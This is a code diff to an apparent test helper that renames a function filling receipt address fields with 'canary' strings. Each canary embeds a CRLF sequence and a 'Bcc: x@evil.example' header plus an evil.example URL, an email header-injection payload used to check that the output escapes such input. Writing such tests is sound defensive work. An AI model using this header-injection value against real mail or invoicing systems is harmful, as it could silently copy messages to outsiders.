@@ -9,7 +9,7 @@ import type { Receipt } from "../receipt.ts"
 export const canary = (name: string): string =>
   `Kanarie-${name} http://evil.example/${name}\r\nBcc: x@evil.example`
 
-const told = (address: Receipt["deliveryAddress"], name: string): Receipt["deliveryAddress"] => ({
+const named = (address: Receipt["deliveryAddress"], name: string): Receipt["deliveryAddress"] => ({
   ...address,
   companyName: canary(`${name}-company`),
   vatId: canary(`${name}-vat`),
@@ -32,12 +32,12 @@ const withCanaries = ({
   readonly place: string
 }): Receipt => ({
   ...receipt,
-  deliveryAddress: told(receipt.deliveryAddress, "delivery"),
-  invoiceAddress: told(receipt.deliveryAddress, "invoice"),
+  deliveryAddress: named(receipt.deliveryAddress, "delivery"),
+  invoiceAddress: named(receipt.deliveryAddress, "invoice"),
   calculation: { ...receipt.calculation, zipCode: place, stations: 2 },
   stations: ["first", "second"].map((name) => ({
     amount: receipt.calculation.amount / 2,
-    address: told(receipt.deliveryAddress, name)
+    address: named(receipt.deliveryAddress, name)
   })),
   payment: {
     ...receipt.payment,
